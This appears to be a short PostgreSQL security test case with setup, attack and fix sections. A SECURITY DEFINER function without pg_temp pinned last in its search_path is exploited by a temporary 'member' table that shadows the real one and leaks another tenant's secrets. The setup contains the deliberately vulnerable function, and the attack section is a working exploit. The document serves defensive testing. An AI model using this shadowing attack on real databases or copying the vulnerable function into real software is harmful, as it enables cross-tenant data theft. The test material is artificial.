-- SECURITY DEFINER without pg_temp last in search_path: temp table shadows the lookup

--- setup
CREATE TABLE app.member(uid int, tenant_id int); INSERT INTO app.member VALUES (10,1);
CREATE FUNCTION app.secrets(u int) RETURNS SETOF text LANGUAGE plpgsql SECURITY DEFINER SET search_path = app AS $$ BEGIN RETURN QUERY SELECT p.secret FROM app.project p WHERE p.tenant_id IN (SELECT m.tenant_id FROM member m WHERE m.uid=u); END $$;

--- attack
--- as rls_app
SET app.tenant_id='1';
CREATE TEMP TABLE member(uid int, tenant_id int); GRANT SELECT ON member TO PUBLIC; INSERT INTO member VALUES (10,2);
SELECT lab.v(lab.n($q$select 1 from app.secrets(10) s where s like 'victim%'$q$)>0,'pg_temp.member shadowed app.member');

--- fix
ALTER FUNCTION app.secrets(int) SET search_path = pg_catalog, app, pg_temp;
